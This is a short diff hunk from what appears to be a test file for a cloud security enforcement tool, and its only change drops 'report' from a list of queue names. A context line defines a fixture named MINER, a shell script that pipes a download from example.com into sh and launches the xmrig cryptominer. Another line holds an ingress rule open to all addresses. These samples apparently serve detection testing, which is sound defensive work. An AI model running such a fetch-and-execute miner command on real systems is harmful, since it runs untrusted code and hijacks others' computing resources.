@@ -28,7 +28,7 @@ MINER = "#!/bin/sh\ncurl -s https://example.com/x | sh\n./xmrig -o stratum+tcp:/
 # Everything counts as new at once, and the many instances of a test run are no blast.
 ENFORCING = "version: 1\nmode: enforce\nrisk: {learning: 0s}\nblast_radius: {instances_per_hour: 5000}\n"
 WORLD = {"IpRanges": [{"CidrIp": "0.0.0.0/0"}], "Ipv6Ranges": [{"CidrIpv6": "::/0"}]}
-QUEUES = ("triggers", "assess", "respond", "fix", "notices", "report", "watch")
+QUEUES = ("triggers", "assess", "respond", "fix", "notices", "watch")
 _numbers = itertools.count(1)
 
 
